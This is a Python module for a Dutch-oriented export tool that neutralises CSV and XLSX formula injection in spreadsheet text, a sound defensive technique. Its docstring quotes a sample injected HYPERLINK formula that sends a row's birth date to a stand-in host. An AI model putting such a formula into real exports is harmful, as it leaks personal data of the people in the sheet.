"""Text for spreadsheets: every XLSX and CSV writer puts its text through this module.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a line break before those) as a formula: a client named
``=HYPERLINK("http://x.example/?d="&C3&D3,"Klik")`` would send that row's birth date
out when clicked. Following OWASP's advice on CSV injection, and choosing what keeps
the reader's data as typed:

- **XLSX** (``set_text``, ``text_cell``): every text cell is typed as a string
  (``data_type`` ``s``), so Excel and LibreOffice show it and never run it; text that
  looks like a formula also gets Excel's own "quote prefix" style, so editing the cell
  keeps it text. The value is the text as typed (a phone number ``+31 6 ...`` reads as
  itself); only characters XML cannot hold are replaced by U+FFFD, and text beyond
  Excel's limit of 32,767 characters per cell is cut off there, ending in ``…``.
- **CSV** (``csv_field``, ``csv_writer``): a CSV cell has no type, so text that looks
  like a formula gets a leading apostrophe (``'=HYPERLINK(...)``), which Excel and
  LibreOffice read as "this is text"; every field is quoted, so a reader that splits on
  another separator (a comma in an English Excel) cannot start a new cell with ``=``
  inside a field. Control characters other than tab and line breaks are replaced by
  U+FFFD (a terminal that prints the file cannot be steered by them). Numbers that
  are Python numbers stay numbers and are not prefixed.

"Looks like a formula" is checked on the first character and on the first character
after leading white space, and counts the full-width forms of ``= + - @`` as well.
"""

from __future__ import annotations

import csv
import re
from typing import IO, Any

FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
EXCEL_CELL_LIMIT = 32_767
REPLACEMENT = "\ufffd"
# XML 1.0 cannot hold C0 controls other than tab and line breaks, lone surrogates,
# U+FFFE and U+FFFF; openpyxl refuses the first and the XML writer the others.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if not text:
        return False
    if text[0] in FORMULA_START:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_START


def xlsx_text(value: object) -> str:
    """``value`` as text an XLSX cell can hold: XML-safe and within Excel's cell limit."""
    text = _NOT_XML.sub(REPLACEMENT, str(value))
    if len(text) <= EXCEL_CELL_LIMIT // 2:
        return text
    # Excel counts UTF-16 units: a character beyond the first plane (an emoji) is two.
    if len(text.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT:
        return text
    units = 0
    for index, char in enumerate(text):
        units += 2 if ord(char) > 0xFFFF else 1
        if units > EXCEL_CELL_LIMIT - 1:  # room for the ellipsis
            return text[:index] + "…"
    return text


def set_text(cell: Any, value: object) -> None:
    """Store ``value`` in an openpyxl cell as a string that is never run as a formula."""
    text = xlsx_text(value)
    cell.value = text
    cell.data_type = "s"
    if looks_like_formula(text):
        cell.quotePrefix = True


def text_cell(sheet: Any, value: object) -> Any:
    """A write-only cell for ``sheet`` holding ``value`` as safe text (see ``set_text``)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet)
    set_text(cell, value)
    return cell


def csv_field(value: object) -> str:
    """One CSV field: numbers as they are, text neutralised (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    text = _CONTROL.sub(REPLACEMENT, str(value))
    return "'" + text if looks_like_formula(text) else text


def csv_writer(stream: IO[str]):
    """A CSV writer as Dutch Excel opens it: ``;`` between fields, every field quoted."""
    return _SafeWriter(
        csv.writer(stream, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    )


class _SafeWriter:
    """Writes rows with every field through ``csv_field``."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row) -> None:
        self._writer.writerow([csv_field(value) for value in row])
